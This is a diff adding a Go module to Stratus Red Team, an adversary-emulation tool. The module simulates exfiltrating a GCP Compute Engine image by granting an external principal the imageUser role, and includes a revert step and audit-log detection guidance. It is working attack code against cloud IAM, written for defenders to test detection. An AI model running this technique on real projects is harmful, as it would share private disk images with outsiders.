@@ -0,0 +1,145 @@
+package gcp
+
+import (
+	_ "embed"
+	"errors"
+	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
+	"google.golang.org/api/compute/v1"
+)
+
+//go:embed main.tf
+var tf []byte
+
+//go:embed sigma.yml
+var sigma []byte
+
+const imageUserRole = "roles/compute.imageUser"
+
+func init() {
+	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
+		ID:           "gcp.exfiltration.share-compute-image",
+		FriendlyName: "Exfiltrate Compute Image by Sharing It",
+		Description: `
+Exfiltrates a Compute Engine image by sharing it with an external principal.
+
+Warm-up:
+
+- Create a Compute Engine disk
+- Create a Compute Engine image from the disk
+- Create a service account, standing in for the external principal of an attacker
+
+Detonation:
+
+- Grant the <code>` + imageUserRole + `</code> role on the image to the service account
+`,
+		Detection: `
+Using GCP Admin Activity audit logs, through the <code>v1.compute.images.setIamPolicy</code> event, when
+<code>serviceData.policyDelta.bindingDeltas</code> shows that a principal outside of your organization was granted access to the image.
+`,
+		SigmaRules:                 sigma,
+		Platform:                   stratus.GCP,
+		IsIdempotent:               true,
+		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Exfiltration},
+		PrerequisitesTerraformCode: tf,
+		Version:                    2,
+		RequiredOutputs:            []string{"image_name", "external_principal"},
+		Detonate:                   detonate,
+		Revert:                     revert,
+		IsDetonated:                isDetonated,
+	})
+}
+
+func detonate(execution *stratus.ExecutionContext) error {
+	imageName := execution.Parameters["image_name"]
+	externalPrincipal := execution.Parameters["external_principal"]
+
+	execution.Logger.Println("Exfiltrating image " + imageName + " by sharing it with " + externalPrincipal)
+	err := updateImagePolicy(execution, imageName, func(policy *compute.Policy) {
+		for _, binding := range policy.Bindings {
+			if binding.Role == imageUserRole {
+				if !hasMember(binding.Members, externalPrincipal) {
+					binding.Members = append(binding.Members, externalPrincipal)
+				}
+				return
+			}
+		}
+		policy.Bindings = append(policy.Bindings, &compute.Binding{Role: imageUserRole, Members: []string{externalPrincipal}})
+	})
+	if err != nil {
+		return errors.New("unable to share image with an external principal: " + err.Error())
+	}
+
+	return nil
+}
+
+func revert(execution *stratus.ExecutionContext) error {
+	imageName := execution.Parameters["image_name"]
+	externalPrincipal := execution.Parameters["external_principal"]
+
+	execution.Logger.Println("Reverting exfiltration of image " + imageName + " by removing " + externalPrincipal + " from its IAM policy")
+	err := updateImagePolicy(execution, imageName, func(policy *compute.Policy) {
+		for _, binding := range policy.Bindings {
+			binding.Members = removeMember(binding.Members, externalPrincipal)
+		}
+	})
+	if err != nil {
+		return errors.New("unable to remove image permissions: " + err.Error())
+	}
+
+	return nil
+}
+
+func isDetonated(execution *stratus.ExecutionContext) (bool, error) {
+	computeClient, err := compute.NewService(execution.Context, execution.GCP.Options()...)
+	if err != nil {
+		return false, errors.New("unable to instantiate the GCP Compute client: " + err.Error())
+	}
+
+	policy, err := computeClient.Images.GetIamPolicy(execution.GCP.GetProjectId(), execution.Parameters["image_name"]).Do()
+	if err != nil {
+		return false, errors.New("unable to retrieve the IAM policy of the image: " + err.Error())
+	}
+	for _, binding := range policy.Bindings {
+		if hasMember(binding.Members, execution.Parameters["external_principal"]) {
+			return true, nil
+		}
+	}
+	return false, nil
+}
+
+// updateImagePolicy applies a modification to the IAM policy of an image
+func updateImagePolicy(execution *stratus.ExecutionContext, imageName string, update func(policy *compute.Policy)) error {
+	computeClient, err := compute.NewService(execution.Context, execution.GCP.Options()...)
+	if err != nil {
+		return errors.New("unable to instantiate the GCP Compute client: " + err.Error())
+	}
+	projectId := execution.GCP.GetProjectId()
+
+	policy, err := computeClient.Images.GetIamPolicy(projectId, imageName).Do()
+	if err != nil {
+		return err
+	}
+	update(policy)
+	_, err = computeClient.Images.SetIamPolicy(projectId, imageName, &compute.GlobalSetPolicyRequest{Policy: policy}).Do()
+	return err
+}
+
+func removeMember(members []string, memberToRemove string) []string {
+	var result []string
+	for _, member := range members {
+		if member != memberToRemove {
+			result = append(result, member)
+		}
+	}
+	return result
+}
+
+func hasMember(members []string, member string) bool {
+	for _, existingMember := range members {
+		if existingMember == member {
+			return true
+		}
+	}
+	return false
+}